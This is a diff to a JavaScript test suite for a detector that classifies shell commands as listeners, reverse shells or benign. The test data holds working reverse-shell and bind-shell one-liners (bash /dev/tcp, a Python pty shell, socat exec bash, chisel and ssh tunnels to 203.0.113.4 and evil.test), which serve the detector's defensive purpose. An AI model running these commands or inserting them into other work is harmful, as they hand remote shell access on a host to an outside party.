@@ -23,6 +23,12 @@ describe('shellListeners', () => {
     ['ncat --listen 4444', 'listener'],
     ['busybox nc -lk -p 80', 'listener'],
     ['socat TCP-LISTEN:1337,fork EXEC:/bin/bash', 'listener'],
+    ['sh >/dev/tcp/203.0.113.4/9001 <&1 2>&1', 'reverse'],
+    ['chisel client 203.0.113.4:8080 R:2222:localhost:22', 'reverse'],
+    [
+      'python3 <<E\nimport socket,pty,os\ns=socket.socket();s.connect(("203.0.113.4",1));os.dup2(s.fileno(),0);pty.spawn("sh")\nE',
+      'reverse',
+    ],
     ['socat tcp4-l:1337,fork exec:sh,pty', 'listener'],
     ['socat OPENSSL-LISTEN:443,cert=x SYSTEM:sh', 'listener'],
     ['ssh -i /key -o StrictHostKeyChecking=no -fNR 2222:localhost:22 a@evil.test', 'reverse'],
@@ -74,6 +80,11 @@ describe('shellListeners', () => {
     'rm -f /usr/sbin/sshd',
     'dropbearkey -t rsa -f x',
     'ttyd --version',
+    'socat TCP-LISTEN:8080,fork TCP:db:5432',
+    'chisel server --port 8080',
+    'chisel client hub:8080 8081:db:5432',
+    'sh /app/metrics.sh >/dev/udp/127.0.0.1/8125 2>&1',
+    'python3 <<E\nimport socket\nsocket.create_connection(("db", 5432))\nE',
   ])('%s: none', (text) => {
     expect(kinds(text)).toEqual([]);
   });
